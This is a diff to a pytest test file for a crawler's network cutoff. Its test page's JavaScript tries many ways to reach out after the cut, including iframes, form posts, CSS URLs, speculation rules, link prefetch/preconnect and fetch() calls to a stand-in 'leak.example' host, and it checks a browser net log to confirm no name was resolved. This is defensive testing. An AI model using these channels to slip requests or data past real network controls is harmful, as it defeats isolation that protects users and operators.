@@ -5,12 +5,14 @@ from __future__ import annotations
 import asyncio
 import base64
 import hashlib
+import json
 import socket
 import threading
 import time
 from collections.abc import AsyncIterator, Iterator
 from contextlib import asynccontextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 
 import pytest
 
@@ -58,6 +60,9 @@ const tries = (when) => {
   safe(() => { const i = document.createElement("iframe"); i.src = "http://OTHER" + at("iframe"); document.body.append(i); });
   safe(() => window.open(at("popup")));
   safe(() => { const f = document.createElement("form"); f.action = at("inner"); f.method = "post"; f.target = "inner"; document.body.append(f); f.submit(); });
+  if (LOOKUPS) for (const rel of ["dns-prefetch", "preconnect", "prefetch"])
+    safe(() => { const l = document.createElement("link"); l.rel = rel; l.href = `http://${rel}.${when}.leak.example/`; document.head.append(l); });
+  if (LOOKUPS) safe(() => fetch(`http://${when}.leak.example/`).catch(() => 0));
   safe(() => document.getElementById("ping").click());
   safe(() => { const d = document.createElement("div"); d.style.background = `url(${at("css")})`; d.textContent = "x"; document.body.append(d); });
   safe(() => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [at("speculation")] }] }); document.head.append(s); });
@@ -91,6 +96,8 @@ class Witness:
 
     def __init__(self) -> None:
         self.arrived: list[tuple[float, str]] = []
+        self.lookups = False
+        """Whether the page asks for names too: only where no name is looked up, so that no test asks a real server."""
         self.datagrams: list[float] = []
         witness = self
 
@@ -147,8 +154,10 @@ class Witness:
         handler.close_connection = True
 
     def fill(self, text: str) -> str:
-        return text.replace("OTHER", f"127.0.0.1:{self.servers[1].server_port}").replace(
-            "UDP", str(self.udp.getsockname()[1])
+        return (
+            text.replace("OTHER", f"127.0.0.1:{self.servers[1].server_port}")
+            .replace("UDP", str(self.udp.getsockname()[1]))
+            .replace("LOOKUPS", "true" if self.lookups else "false")
         )
 
     @property
@@ -173,9 +182,9 @@ def witness() -> Iterator[Witness]:
 
 
 @asynccontextmanager
-async def opened(witness: Witness, cut: Cutoff | None) -> AsyncIterator[LivePage]:
+async def opened(witness: Witness, cut: Cutoff | None, *arguments: str) -> AsyncIterator[LivePage]:
     site = Site(name="probe", url=witness.url, limits=Limits(settle_seconds=1))
-    async with open_browser(BrowserSettings()) as browser:
+    async with open_browser(BrowserSettings(arguments=arguments)) as browser:
         async with browser.session(site, proxy=cut.url if cut else None) as session:
             if cut:
                 await session.context.add_init_script(NO_PEERS)
@@ -184,9 +193,26 @@ async def opened(witness: Witness, cut: Cutoff | None) -> AsyncIterator[LivePage
         await asyncio.sleep(1.0)
 
 
+def names_in(log: Path) -> tuple[set[str], set[str]]:
+    """The names that a browser's log speaks of, and those for which it asked a resolver, its own or the system's."""
+    record = json.loads(log.read_text(encoding="utf-8", errors="replace"))
+    kinds = {record["constants"]["logEventTypes"][name] for name in ("HOST_RESOLVER_MANAGER_JOB", "DNS_TRANSACTION")}
+    asked: set[str] = set()
+    looked_up: set[str] = set()
+    for event in record["events"]:
+        for key in ("host", "hostname", "url", "destination"):
+            name = str(event.get("params", {}).get(key, ""))
+            asked.add(name)
+            if event["type"] in kinds:
+                looked_up.add(name)
+    return asked, looked_up
+
+
 async def test_after_the_cut_no_request_and_no_datagram_arrives(
-    witness: Witness, monkeypatch: pytest.MonkeyPatch
+    witness: Witness, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
+    witness.lookups = True
+    log = tmp_path / "net.json"
     monkeypatch.setattr("crawler.probe._LONGEST", 0.7)  # this page never comes to rest
     moments: list[float] = []
 
@@ -198,7 +224,7 @@ async def test_after_the_cut_no_request_and_no_datagram_arrives(
 
     cut = Noted()
     await cut.start()
-    async with opened(witness, cut) as live:
+    async with opened(witness, cut, f"--log-net-log={log}") as live:
         await asyncio.sleep(0.5)
         trial = await probe(live, cut)
         assert await live.page.evaluate("document.querySelector('[name=phone]').getAttribute('aria-invalid')") == "true"
@@ -212,6 +238,9 @@ async def test_after_the_cut_no_request_and_no_datagram_arrives(
     late = [name for at, name in witness.arrived if at > moments[0]]
     assert late == []
     assert witness.datagrams == []
+    asked, looked_up = names_in(log)
+    assert any("leak.example" in name for name in asked), "the page asked for names"
+    assert not [name for name in looked_up if "leak.example" in name], "and none was looked up"
     assert {"POST /go/clock", "frame", "POST /go/load-beacon"} <= witness.names(), "the page was alive before the cut"
 
 
